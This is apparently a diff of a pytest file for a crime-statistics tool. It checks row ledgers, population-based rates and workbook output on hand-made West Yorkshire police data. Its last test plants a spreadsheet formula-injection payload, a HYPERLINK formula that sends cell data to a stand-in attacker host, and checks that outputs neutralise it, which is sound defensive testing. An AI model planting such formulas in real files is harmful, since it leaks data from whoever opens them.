@@ -1,11 +1,15 @@
-"""The open-data edition on a second force (hand-made West Yorkshire files), with no code changes.
+"""A third force with no code change: hand-made West Yorkshire street files and nothing else.
 
-All expected values are worked out by hand from the rows written in ``conftest.py``:
-each of the 12 months of FY2021/22 has 13 rows -- in the force: 7 violence and sexual
-offences (VSO: 3 in E01011264, 1 in E01011265, 1 in E01011266, 2 in E01010564), 1 robbery
-(E01011264), 1 possession of weapons (E01010564), 1 burglary (E01010565); excluded: 1 ASB,
-1 VSO with no location, 1 VSO in a Leicester LSOA. 2021-05 has 5 more, bad, rows.
-Populations (mid-2020 LSOA): 1000, 2000, 1500 (Leeds) and 1200, 1800 (Bradford) = 7,500.
+The folder holds only ``police/street`` (``conftest.make_west_yorkshire``): geography, CSPs and
+local-authority populations come from the data shipped with svsna. Expected values are worked out
+by hand from the rows written in ``conftest.py``: each of the 12 months of FY2021/22 has 13 rows --
+in the force: 7 violence and sexual offences (VSO: 3 in E01011264, 1 in E01011265, 1 in E01011266,
+all Leeds; 2 in E01010568, Bradford), 1 robbery (E01011264), 1 possession of weapons (E01010568),
+1 burglary (E01010569); excluded: 1 ASB, 1 VSO with no location, 1 VSO in a Leicester LSOA.
+2021-05 has 5 more, bad, rows; 2021-06 two more: a robbery in Taunton Deane 002A (Avon and
+Somerset) and a VSO whose LSOA code is not a 2011 LSOA.
+Populations: ONS mid-2020 by local authority, read here from the shared data file (mid-2021 is
+not shipped, so svsna must use mid-2020 and say so).
 """
 
 from __future__ import annotations
@@ -16,6 +20,10 @@ import pandas as pd
 import pytest
 
 from svsna.opendata.assessment import run_opendata
+
+from .conftest import WY_LSOAS, add_lsoa_population, ons_population_2020
+
+WY_LADS = ("E08000032", "E08000033", "E08000034", "E08000035", "E08000036")  # Bradford .. Wakefield
 
 
 @pytest.fixture(scope="module")
@@ -39,15 +47,21 @@ def _byars(o: float, z: float = 1.959964) -> tuple[float, float]:
     return lo, hi
 
 
+def test_only_street_files_in_the_folder(west_yorkshire_shared):
+    assert [p.name for p in west_yorkshire_shared.iterdir()] == ["police"]
+    assert {p.name for p in (west_yorkshire_shared / "police").iterdir()} == {"street"}
+
+
 def test_ledger_accounts_for_every_row(wy_run):
     led = wy_run.ledger
     totals = led.groupby("outcome")["rows"].sum().to_dict()
-    # 12 months x 13 rows + 5 bad rows; loaded 12 x 10; excluded 12 x 3; rejected 5
-    assert totals == {"read": 161, "loaded": 120, "excluded": 36, "rejected": 5}
+    # 12 months x 13 rows + 5 bad rows + 2 extra rows; loaded 12 x 10; excluded 12 x 3 + 2; rejected 5
+    assert totals == {"read": 163, "loaded": 120, "excluded": 38, "rejected": 5}
     by_reason = led[led["outcome"] != "read"].groupby("reason")["rows"].sum()
     assert by_reason["excluded: anti-social behaviour (an incident, not a crime)"] == 12
     assert by_reason["excluded: no location (blank LSOA code)"] == 12
-    assert by_reason["excluded: outside force area (LSOA not in the force's local authorities)"] == 12
+    assert by_reason["excluded: outside force area (an LSOA of another police force area)"] == 13
+    assert by_reason["excluded: not a 2011 LSOA code (not in the national lookup of England and Wales)"] == 1
     for reason in (
         "rejected: month not YYYY-MM",
         "rejected: month differs from the file name",
@@ -56,16 +70,24 @@ def test_ledger_accounts_for_every_row(wy_run):
         "rejected: wrong number of fields",
     ):
         assert by_reason[reason] == 1
-    # per file: 2021-05 read 18 rows
     may = led[(led["file"] == "2021-05-west-yorkshire-street.csv") & (led["outcome"] == "read")]
     assert int(may["rows"].iloc[0]) == 18
+
+
+def test_outside_rows_are_placed_by_code(wy_run):
+    out = pd.read_csv(wy_run.files["outside_force"], dtype=str)
+    got = {(r.lad_code, r.lad_name, r.pfa_name): int(r.rows) for r in out.itertuples()}
+    # Leicester 008A every month; Taunton Deane 002A once -- in Somerset today, whatever its name says
+    assert got == {("E06000016", "Leicester", "Leicestershire"): 12, ("E06000066", "Somerset", "Avon and Somerset"): 1}
+    ledger_text = next(f for f in wy_run.findings if f.key == "row_ledger").text
+    assert "13 rows located in 2 local authorities of other force areas" in ledger_text
+    assert "1 rows whose LSOA code is not a 2011 LSOA" in ledger_text
 
 
 def test_rejects_name_file_line_column_value_and_rule(wy_run):
     rej = pd.read_csv(wy_run.files["rejects"], dtype=str, keep_default_na=False)
     assert len(rej) == 5
     assert set(rej["file"]) == {"2021-05-west-yorkshire-street.csv"}
-    # header is line 1, the 13 good rows lines 2-14, then the bad rows in the order written
     got = {(r.row_number, r.column, r.value) for r in rej.itertuples()}
     assert ("15", "Month", "2021-13") in got
     assert ("16", "Month", "2021-06") in got
@@ -74,55 +96,65 @@ def test_rejects_name_file_line_column_value_and_rule(wy_run):
     assert any(r.row_number == "19" and r.rule == "rejected: wrong number of fields" for r in rej.itertuples())
 
 
-def test_counts_rates_and_shares(wy_run):
+def test_counts_and_the_force_rate_from_shipped_populations(wy_run, shared_data):
     ind = wy_run.indicators
     ext = ind[ind["section"] == "od_extent"]
-    # located crimes: VSO 7 x 12 = 84, robbery 12, weapons 12, combined 108
     for key, n in {"vso": 84, "robbery": 12, "weapons": 12, "combined": 108}.items():
         assert _one(ext, indicator="crimes", definition=key)["value"] == n
-    # recorded (all locations): VSO 9 x 12 = 108; combined 132
-    assert _one(ext, indicator="crimes_recorded", definition="vso")["value"] == 108
-    assert _one(ext, indicator="crimes_recorded", definition="combined")["value"] == 132
+    # recorded (all locations): VSO 9 x 12 + the not-2011-LSOA VSO = 109; combined 11 x 12 + 2 = 134
+    assert _one(ext, indicator="crimes_recorded", definition="vso")["value"] == 109
+    assert _one(ext, indicator="crimes_recorded", definition="combined")["value"] == 134
+    pop = ons_population_2020(shared_data)
+    force_pop = sum(pop[c] for c in WY_LADS)
     r = _one(ext, indicator="rate_per_1000", definition="vso")
-    assert r["value"] == pytest.approx(84 / 7500 * 1000)  # 11.2
+    assert r["denominator"] == force_pop
+    assert r["value"] == pytest.approx(84 / force_pop * 1000)
     lo, hi = _byars(84)
-    assert r["lower"] == pytest.approx(lo / 7500 * 1000, rel=1e-7)
-    assert r["upper"] == pytest.approx(hi / 7500 * 1000, rel=1e-7)
+    assert r["lower"] == pytest.approx(lo / force_pop * 1000, rel=1e-7)
+    assert r["upper"] == pytest.approx(hi / force_pop * 1000, rel=1e-7)
     share = _one(ext, indicator="share_of_all_crime", definition="vso")
     assert share["value"] == pytest.approx(70.0)  # 84 of the 120 located crimes
 
 
-def test_local_authority_and_deprivation(wy_run):
+def test_every_local_authority_and_csp_of_the_force(wy_run, shared_data):
+    pop = ons_population_2020(shared_data)
     geo = wy_run.indicators[wy_run.indicators["section"] == "od_geography"]
     la = geo[(geo["indicator"] == "rate_per_1000") & (geo["breakdown"] == "local_authority")]
-    leeds = _one(la, breakdown_value="Leeds (E08000035)", definition="vso")
-    brad = _one(la, breakdown_value="Bradford (E08000032)", definition="vso")
-    assert leeds["value"] == pytest.approx(60 / 4500 * 1000)  # 5 a month in Leeds
-    assert brad["value"] == pytest.approx(24 / 3000 * 1000)  # 2 a month in Bradford
-    assert leeds["comparator_value"] == pytest.approx(11.2)
+    vso = la[la["definition"] == "vso"]
+    assert len(vso) == 5  # all five West Yorkshire authorities, with or without crimes
+    leeds = _one(vso, breakdown_value="Leeds (E08000035)")
+    brad = _one(vso, breakdown_value="Bradford (E08000032)")
+    assert leeds["value"] == pytest.approx(60 / pop["E08000035"] * 1000)  # 5 a month in Leeds
+    assert brad["value"] == pytest.approx(24 / pop["E08000032"] * 1000)  # 2 a month in Bradford
+    assert _one(vso, breakdown_value="Wakefield (E08000036)")["numerator"] == 0
     csp = geo[(geo["indicator"] == "rate_per_1000") & (geo["breakdown"] == "community_safety_partnership")]
-    assert _one(csp, breakdown_value="Leeds (E22000210)", definition="vso")["value"] == pytest.approx(60 / 4.5)
-    rr = _one(geo, indicator="rate_ratio_most_vs_least_deprived", definition="vso")
-    # decile 1 = E01011264 + E01010564: (36 + 24) / 2,200; decile 10 = E01011266: 12 / 1,500
-    assert rr["value"] == pytest.approx((60 / 2200) / (12 / 1500))
-    assert rr["breakdown_value"] == "decile 1 vs decile 10"
+    # ONS LAD to CSP to PFA (December 2024): Leeds CSP E22000345
+    assert _one(csp, breakdown_value="Leeds (E22000345)", definition="vso")["value"] == pytest.approx(leeds["value"])
 
 
-def test_hotspots_use_contiguity_of_the_boundaries(wy_run):
-    import numpy as np
+def test_population_fallback_is_said(wy_run):
+    meta = wy_run.metadata
+    assert meta["population_fallback"] is True
+    lad = next(c for c in meta["population_years"] if c["level"] == "lad")
+    assert (lad["wanted_mid_year"], lad["used_mid_year"], lad["how"]) == (2021, 2020, "earlier")
+    assert (
+        "2021/22: local authority, community safety partnership and force area rates use mid-2020 estimates"
+        in (meta["populations"])
+    )
+    assert "mid-2021 estimates are not available" in meta["populations"]
+    f = next(f for f in wy_run.findings if f.key == "population_year_fallback")
+    assert "Rates for 2021/22 use mid-2020 population estimates" in f.text
+    assert "local authorities as at 1 April 2024" in meta["geography_vintage"]["local_authorities"]
+    vintage = next(f for f in wy_run.findings if f.key == "geography_vintage")  # printed in the data-quality section
+    assert "local authorities of 1 April 2024 (the current ones)" in vintage.text
+    assert "police force areas of December 2024" in vintage.text
 
-    hs = wy_run.indicators
-    gi = hs[(hs["indicator"] == "gi_star_z") & (hs["definition"] == "vso")]
-    # rates per 1,000 in square order 0..4: 36, 6, 8, 20, 0; squares in a row, so neighbours are i-1, i+1
-    x = np.array([36.0, 6.0, 8.0, 20.0, 0.0])
-    n = len(x)
-    w = np.eye(n) + np.eye(n, k=1) + np.eye(n, k=-1)  # Gi*: self included, binary
-    xbar, s = x.mean(), math.sqrt((x**2).mean() - x.mean() ** 2)
-    wi, s1 = w.sum(1), (w**2).sum(1)
-    z = (w @ x - xbar * wi) / (s * np.sqrt((n * s1 - wi**2) / (n - 1)))  # Ord & Getis (1995) eq. 14
-    order = ["E01011264", "E01011265", "E01011266", "E01010564", "E01010565"]
-    got = gi.set_index(gi["breakdown_value"].str[-10:-1])["value"].loc[order].to_numpy()
-    assert got == pytest.approx(z, rel=1e-9)
+
+def test_lsoa_analyses_say_why_they_are_absent(wy_run):
+    ind = wy_run.indicators
+    assert not (ind["breakdown"] == "lsoa").any() and not (ind["section"] == "od_hotspots").any()
+    keys = {f.key for f in wy_run.findings}
+    assert {"lsoa_rates_not_run", "hotspots_not_run"} <= keys
 
 
 def test_metadata_states_the_proxy(wy_run):
@@ -136,6 +168,15 @@ def test_metadata_states_the_proxy(wy_run):
     assert not any("serious" in i for i in wy_run.indicators["indicator"].unique())
 
 
+def test_geography_used_is_written(wy_run):
+    geo = pd.read_csv(wy_run.files["geography"], dtype=str)
+    assert geo["pfa_code"].unique().tolist() == ["E23000010"]
+    assert sorted(geo["lad_code"].unique()) == list(WY_LADS)
+    assert set(WY_LSOAS) <= set(geo["lsoa_code"])
+    row = geo.set_index("lsoa_code").loc["E01010568"]
+    assert (row["lsoa_name"], row["lad_name"], row["imd_decile"]) == ("Bradford 016A", "Bradford", "8")
+
+
 def test_incomplete_year_is_refused(west_yorkshire, tmp_path):
     from svsna.errors import ConfigError
 
@@ -143,61 +184,93 @@ def test_incomplete_year_is_refused(west_yorkshire, tmp_path):
         run_opendata(west_yorkshire, "west-yorkshire", [2020, 2021], tmp_path / "o", build_report=False)
 
 
-def test_workbook_titled_open_data_edition(wy_run):
+def test_one_workbook_titled_open_data_edition(wy_run):
     from openpyxl import load_workbook
 
+    assert sorted(p.name for p in wy_run.out_dir.glob("*.xlsx")) == ["opendata-tables.xlsx"]
     wb = load_workbook(wy_run.files["workbook"], read_only=True)
     assert wb.sheetnames == ["About", "Indicators", "Findings", "Ledger", "Rejects"]
     about = wb["About"]
     assert about["A1"].value == "Open-data edition"
     details = [r[1] for r in about.iter_rows(min_row=4, values_only=True)]
     assert any("cannot isolate serious violence" in str(d) for d in details)
+    assert any("mid-2020 estimates, because mid-2021 estimates are not available" in str(d) for d in details)
     rows = list(wb["Indicators"].iter_rows(values_only=True))
     assert len(rows) == len(wy_run.indicators) + 1
     header = rows[0]
     vso = [r for r in rows[1:] if r[header.index("indicator")] == "crimes" and r[header.index("definition")] == "vso"]
-    assert [r[header.index("value")] for r in vso] == [84]  # 7 a month located in the force
-    assert len(list(wb["Rejects"].iter_rows(values_only=True))) == 5 + 1  # the five bad rows of 2021-05
+    assert [r[header.index("value")] for r in vso] == [84]
+    assert len(list(wb["Rejects"].iter_rows(values_only=True))) == 5 + 1
     wb.close()
 
 
-def test_la_rates_from_mye2_when_no_lsoa_population(west_yorkshire, tmp_path):
-    """Without an LSOA population file, LA rates use MYE2 and LSOA-level analyses say why they are absent."""
-    (west_yorkshire / "population" / "population20_lsoa11_wy.csv").unlink()
-    (west_yorkshire / "population" / "ons_mye2_sya_mid2021_wy.csv").write_text(
-        "Sex,Code,Name,Geography,All ages\n"
-        "Persons,E08000035,Leeds,Metropolitan District,5000\n"
-        "Males,E08000035,Leeds,Metropolitan District,2400\n"
-        "Persons,E08000032,Bradford,Metropolitan District,2500\n",
-        encoding="utf-8",
-    )
+def test_data_folder_mye2_is_used_for_its_year(west_yorkshire, tmp_path):
+    """An ONS MYE2 file for mid-2021 covering every authority of the force is used as is: no fallback."""
+    pop = west_yorkshire / "population"
+    pop.mkdir()
+    made_up = dict(zip(WY_LADS, (500_000, 200_000, 400_000, 800_000, 350_000), strict=True))
+    lines = ["Sex,Code,Name,Geography,All ages"]
+    lines += [f"Persons,{c},x,Metropolitan District,{n}" for c, n in made_up.items()]
+    lines += ["Males,E08000035,Leeds,Metropolitan District,1", "Persons,E92000001,ENGLAND,Country,56536419"]
+    (pop / "ons_mye2_sya_mid2021_wy.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
     res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False, workbook=False)
     ind = res.indicators
     la = ind[(ind["indicator"] == "rate_per_1000") & (ind["breakdown"] == "local_authority")]
-    assert _one(la, breakdown_value="Leeds (E08000035)", definition="vso")["value"] == pytest.approx(60 / 5000 * 1000)
-    assert _one(la, breakdown_value="Bradford (E08000032)", definition="vso")["value"] == pytest.approx(
-        24 / 2500 * 1000
-    )
-    assert not (ind["breakdown"] == "lsoa").any() and not (ind["section"] == "od_hotspots").any()
-    keys = {f.key for f in res.findings}
-    assert {"lsoa_rates_not_run", "hotspots_not_run"} <= keys
+    assert _one(la, breakdown_value="Leeds (E08000035)", definition="vso")["value"] == pytest.approx(60 / 800)
+    force = _one(ind, section="od_extent", indicator="rate_per_1000", definition="vso")
+    assert force["denominator"] == sum(made_up.values())
+    assert res.metadata["population_fallback"] is False
+    assert "population_year_fallback" not in {f.key for f in res.findings}
 
 
-def test_lsoa_without_population_is_not_compared(west_yorkshire, tmp_path):
-    import numpy as np
-
-    f = west_yorkshire / "population" / "population20_lsoa11_wy.csv"
-    f.write_text("".join(line for line in f.read_text().splitlines(True) if "E01010565" not in line))
+def test_lsoa_population_file_adds_lsoa_rates_and_deciles(west_yorkshire, tmp_path):
+    """LSOA rates for the LSOAs with an estimate; the others get none; deciles use only LSOAs with one."""
+    pops = {"E01011264": 1000, "E01011265": 2000, "E01011266": 1500, "E01010568": 1200, "E01010569": 1800}
+    add_lsoa_population(west_yorkshire, pops, 2021)
     res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False, workbook=False)
     ind = res.indicators
-    gi = ind[(ind["indicator"] == "gi_star_z") & (ind["definition"] == "vso")]
-    gi = gi.set_index(gi["breakdown_value"].str[-10:-1])
-    assert gi.loc["E01010565", "significance"] == "Not compared"
-    # the other four form a chain 0-1-2-3 with rates 36, 6, 8, 20 per 1,000 (Ord & Getis 1995, eq. 14)
-    x = np.array([36.0, 6.0, 8.0, 20.0])
-    n = len(x)
-    w = np.eye(n) + np.eye(n, k=1) + np.eye(n, k=-1)
-    s = math.sqrt((x**2).mean() - x.mean() ** 2)
-    z = (w @ x - x.mean() * w.sum(1)) / (s * np.sqrt((n * (w**2).sum(1) - w.sum(1) ** 2) / (n - 1)))
-    got = gi.loc[["E01011264", "E01011265", "E01011266", "E01010564"], "value"].to_numpy()
-    assert got == pytest.approx(z, rel=1e-9)
+    lsoa = ind[(ind["indicator"] == "lsoa_rate_per_1000") & (ind["definition"] == "vso")]
+    with_rate = lsoa[lsoa["value"].notna()]
+    assert sorted(with_rate["breakdown_value"].str[-10:-1]) == sorted(pops)
+    assert len(lsoa) == len(pd.read_csv(res.files["geography"]))  # every LSOA of the force is listed
+    assert _one(with_rate, breakdown_value="Leeds 011A (E01011264)")["value"] == pytest.approx(36.0)
+    dec = ind[(ind["breakdown"] == "imd_decile") & (ind["indicator"] == "rate_per_1000") & (ind["definition"] == "vso")]
+    # IMD 2019 deciles (MHCLG File 1): E01011264 5, E01011265 7, E01011266 10, E01010568 8, E01010569 2
+    assert set(dec["breakdown_value"]) == {"2", "5", "7", "8", "10"}
+    assert _one(dec, breakdown_value="8")["value"] == pytest.approx(24 / 1200 * 1000)
+    lsoa_choice = next(c for c in res.metadata["population_years"] if c["level"] == "lsoa")
+    assert lsoa_choice["how"] == "exact" and len(lsoa_choice["areas_without_estimate"]) == len(lsoa) - 5
+
+
+def test_formula_text_in_street_files_is_neutralised_in_every_output(west_yorkshire, tmp_path):
+    """Attack: a street file carrying spreadsheet formulas in text columns; no output cell may run one."""
+    import csv as _csv
+
+    from openpyxl import load_workbook
+
+    f = west_yorkshire / "police" / "street" / "2021-04" / "2021-04-west-yorkshire-street.csv"
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    rows = f.read_text(encoding="utf-8").splitlines()
+    rows.append(
+        f"x1,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
+        f'Leeds 011A,Robbery,"{evil.replace(chr(34), chr(34) * 2)}",'
+    )
+    rows.append(
+        "x2,2021-04,West Yorkshire Police,West Yorkshire Police,-1.5,53.8,On or near Park Lane,E01011264,"
+        "Leeds 011A,@SUM(1+1),Unable to prosecute suspect,"
+    )
+    f.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    res = run_opendata(west_yorkshire, "west-yorkshire", [2021], tmp_path / "o", build_report=False)
+    # the formula reached the indicator table as data ...
+    assert (res.indicators["breakdown_value"] == evil).any()
+    # ... but every CSV and workbook cell holding it starts with a quote
+    for name in ("indicators.csv", "rejects.csv"):
+        with (tmp_path / "o" / name).open(encoding="utf-8", newline="") as fh:
+            cells = [c for row in _csv.reader(fh) for c in row]
+        assert not [c for c in cells if c.lstrip().startswith(("=", "@", "+"))], name
+        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), name
+    wb = load_workbook(res.files["workbook"])
+    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert f"'{evil}" in texts and "'@SUM(1+1)" in texts
